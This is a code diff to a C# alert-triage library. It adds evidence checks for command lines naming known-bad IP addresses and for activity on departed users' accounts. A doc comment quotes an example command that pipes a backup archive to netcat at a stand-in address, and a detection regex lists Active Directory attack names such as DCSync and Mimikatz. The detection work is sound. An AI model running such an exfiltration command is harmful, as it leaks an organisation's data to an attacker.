@@ -21,6 +21,8 @@ public static partial class CommonEvidence
             evidence.Add(new("vpn_egress", $"Source {ip} is the corporate VPN egress (context file vpn_egress): the person behind it signed in to the VPN first", Leaning.Benign, 1.0, ContextFile));
         else if (c.Context.BadIps.Contains(ip))
             evidence.Add(new("bad_ip", $"Source {ip} is listed as a known-bad or anonymising address", Leaning.Malicious, 3.0, ContextFile, Strong: true));
+        if (BadAddressInCommand(c.Alert, c.Context) is { } badCommand) evidence.Add(badCommand);
+        if (DepartedUserActive(c.Alert, c.Context, succeeded: true) is { } departed) evidence.Add(departed);
         if (DetectorRating(c.Alert.DetectorSeverity) is { } rating) evidence.Add(rating);
         if (RuleNamesThreat(c.Alert.Rule) is { } named) evidence.Add(named);
         else if (ThreatNamed(c.Alert) is { } claimed) evidence.Add(claimed);
@@ -37,6 +39,29 @@ public static partial class CommonEvidence
     /// </summary>
     [GeneratedRegex(@"(?i)dcsync|dcshadow|replication of directory|golden ticket|silver ticket|diamond ticket|forged (?:ticket|pac)|pass[- ]the[- ](?:hash|ticket)|overpass|skeleton key|honey ?token|ntds|kerberoast|spn exposure|as-?rep roast|mimikatz")]
     internal static partial Regex ScannerNeverDoes();
+
+    /// <summary>
+    /// A command line that names an address the context file lists as bad ("tar czf - /backups | nc 203.0.113.9 4444"):
+    /// whoever ran it and from wherever, the host was told to talk to a known-bad address.
+    /// </summary>
+    public static Evidence? BadAddressInCommand(Alert alert, Verdict.Context.EnvironmentContext context) =>
+        alert.CommandLine is { } command && Ipv4InText().Matches(command).Select(m => m.Value).FirstOrDefault(ip => context.BadIps.Contains(ip)) is { } bad
+            ? new("bad_ip_in_command", $"The command line names {bad}, listed as a known-bad address in the context file", Leaning.Malicious, 3.0, ContextFile, Strong: true)
+            : null;
+
+    /// <summary>
+    /// The account's owner has left (context file <c>departed_users</c>) and the alert falls after the day they left: a
+    /// leaver's account that still works is how former staff and whoever holds their password get in, whatever the place or
+    /// hour. Strong when the activity succeeded (or the alert says nothing of an outcome); a failed attempt is weaker evidence.
+    /// </summary>
+    public static Evidence? DepartedUserActive(Alert alert, Verdict.Context.EnvironmentContext context, bool? succeeded) =>
+        context.DepartedBy(alert.User, alert.Time) is not { } departed ? null
+        : succeeded == false
+            ? new("departed_user_attempt", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet someone tried to sign in with the account", Leaning.Malicious, 1.0, ContextFile)
+            : new("departed_user_active", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet the account is still in use: nobody should be using it", Leaning.Malicious, 3.0, ContextFile, Strong: true);
+
+    [GeneratedRegex(@"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")]
+    private static partial Regex Ipv4InText();
 
     /// <summary>Text clipped for a brief: alert content is untrusted and may be huge.</summary>
     public static string Clip(string s, int max = 240)
